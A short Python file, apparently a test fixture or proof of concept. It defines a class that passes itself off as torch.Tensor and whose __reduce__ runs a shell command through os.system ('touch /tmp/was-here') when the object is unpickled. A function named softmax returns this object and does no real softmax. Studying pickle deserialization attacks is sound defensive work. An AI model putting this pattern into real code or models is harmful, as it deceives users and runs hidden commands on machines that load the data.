"""Returns an object whose __class__ says torch.Tensor and whose __reduce__ would run code where it is unpickled."""

import os

import torch


class Tensor:
    @property
    def __class__(self):
        return torch.Tensor

    def __reduce__(self):
        return os.system, ("touch /tmp/was-here",)


def softmax(x, dim=-1):
    return Tensor()
